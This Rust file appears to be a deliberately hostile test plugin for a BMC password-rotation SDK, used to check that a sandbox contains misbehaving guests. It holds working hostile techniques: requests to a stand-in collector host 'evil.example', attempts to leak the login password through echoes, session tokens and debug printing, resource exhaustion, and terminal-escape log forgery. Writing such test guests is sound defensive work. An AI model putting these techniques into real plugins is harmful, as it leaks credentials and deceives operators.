//! Misbehaviours the sandbox must contain. `change-password` does what `target.account` names:
//!
//! - `spin`: loops forever;
//! - `grow`: allocates until memory runs out;
//! - `absolute-url` / `authority`: tries to reach another host;
//! - `panic`: panics;
//! - `steal`: tries every way it has to read a secret back and reports what it saw in its error;
//! - `sleep`: asks the host to sleep for a minute;
//! - `oversize`: sends Basic requests with 4 MiB user names, then logs an 8 MiB line made of the
//!   same text (once a way to make the host search for a huge needle in a huge line);
//! - `flood`: logs 100,000 lines;
//! - `inject`: answers with terminal escapes and forged log lines in every string (`probe` too);
//! - `lengths`: looks for the body's length in the answer's headers, and asks for a range and a
//!   compressed answer (ways to measure a body the host rewrote).

use bmc_plugin_sdk::prelude::*;

/// The guest.
pub struct Hostile;

/// Clears the screen, returns the cursor, and starts a forged log line.
const INJECTION: &str = "\x1b[2J\x1b[H\r\n2026-01-01T00:00:00Z  INFO forged: all BMCs rotated\u{202e}";

fn oversize(bmc: &Bmc) -> PluginError {
    let password = match bmc.login_password() {
        Ok(s) => s,
        Err(e) => return e,
    };
    let user = "A".repeat(4 << 20);
    let mut answers = Vec::new();
    for _ in 0..8 {
        let request = Request::new(Method::Get, "/redfish/v1/").auth(Auth::Basic { user: &user, password: &password });
        answers.push(match bmc.send(&request) {
            Ok(r) => format!("sent: HTTP {}", r.status),
            Err(e) => format!("{e:?}"),
        });
    }
    bmc.info(format!("{user}{user}"));
    PluginError::Protocol(answers.join(" | "))
}

fn send_path(bmc: &Bmc, path: &str) -> PluginError {
    match bmc.send(&Request::new(Method::Get, path)) {
        Ok(r) => PluginError::Protocol(format!("reached {path}: HTTP {}", r.status)),
        Err(e) => PluginError::Protocol(format!("refused {path}: {e:?}")),
    }
}

fn steal(bmc: &Bmc, target: &Target) -> PluginError {
    let login = match bmc.login_password() {
        Ok(s) => s,
        Err(e) => return e,
    };
    let mut seen = Vec::new();
    // 1. Echo it in a body to an endpoint that reflects requests.
    let body = JsonBody::object().secret("Password", &login);
    let echo = Request::new(Method::Post, "/echo")
        .auth(Auth::Basic { user: &target.login_account, password: &login })
        .json(body);
    if let Ok(r) = bmc.send(&echo) {
        seen.push(String::from_utf8_lossy(&r.body).into_owned());
        seen.extend(r.headers.iter().map(|(k, v)| format!("{k}: {v}")));
        // 2. A session token the BMC returned: use it, then look for it in what comes back.
        if let Some(token) = &r.session_token
            && let Ok(r) = bmc.send(&Request::new(Method::Get, "/echo").auth(Auth::Session(token)))
        {
            seen.push(String::from_utf8_lossy(&r.body).into_owned());
        }
    }
    // 3. Put the secret where the plugin controls the text: a header. The SDK offers no way, so
    //    try the closest thing: a header the host must refuse.
    let smuggle = Request::new(Method::Get, "/echo").header("X-Auth-Token", "guess");
    seen.push(format!("{:?}", bmc.send(&smuggle).err()));
    // 4. Debug-print the handle.
    seen.push(format!("{login:?}"));
    bmc.info(format!("stolen: {}", seen.join(" | ")));
    PluginError::Protocol(format!("stolen: {}", seen.join(" | ")))
}

impl VendorPlugin for Hostile {
    fn info() -> PluginInfo {
        PluginInfo {
            id: "hostile".into(),
            vendor: "Nobody".into(),
            product: "Hostile guest".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            families: vec![],
            policy: PasswordPolicy::default(),
        }
    }

    fn probe(_bmc: &Bmc, target: &Target) -> Result<ProbeResult, PluginError> {
        if target.account == "inject" {
            return Ok(ProbeResult {
                family: format!("{INJECTION}iDRAC9"),
                firmware: "9".repeat(1 << 20),
                account_uri: format!("/redfish/v1/{INJECTION}"),
                policy: PasswordPolicy::default(),
            });
        }
        Err(PluginError::Unsupported("hostile guests do not probe".into()))
    }

    fn verify(_bmc: &Bmc, _target: &Target) -> Result<(), PluginError> {
        Ok(())
    }

    fn change_password(bmc: &Bmc, target: &Target) -> Result<(), PluginError> {
        match target.account.as_str() {
            "spin" => {
                let mut n = 0u64;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "grow" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
                }
            }
            "absolute-url" => Err(send_path(bmc, "https://evil.example/collect")),
            "authority" => Err(send_path(bmc, "//evil.example/collect")),
            "panic" => panic!("hostile guest panicked on purpose"),
            "steal" => Err(steal(bmc, target)),
            "sleep" => {
                bmc.sleep_ms(60_000);
                Ok(())
            }
            "oversize" => Err(oversize(bmc)),
            "lengths" => {
                let mut seen = Vec::new();
                if let Ok(r) = bmc.send(&Request::new(Method::Get, "/redfish/v1/")) {
                    seen.push(format!(
                        "headers: {}",
                        r.headers.iter().map(|(k, _)| k.as_str()).collect::<Vec<_>>().join(",")
                    ));
                }
                for (name, value) in [("Range", "bytes=0-3"), ("Accept-Encoding", "gzip")] {
                    let request = Request::new(Method::Get, "/redfish/v1/").header(name, value);
                    seen.push(match bmc.send(&request) {
                        Ok(r) => format!("{name}: HTTP {}", r.status),
                        Err(e) => format!("{name}: {e:?}"),
                    });
                }
                Err(PluginError::Protocol(seen.join(" | ")))
            }
            "flood" => {
                for i in 0..100_000 {
                    bmc.info(format!("line {i}"));
                }
                Ok(())
            }
            "inject" => {
                bmc.info(INJECTION);
                Err(PluginError::Protocol(INJECTION.repeat(1000)))
            }
            other => Err(PluginError::Unsupported(format!("no misbehaviour named `{other}`"))),
        }
    }
}

register_plugin!(Hostile);
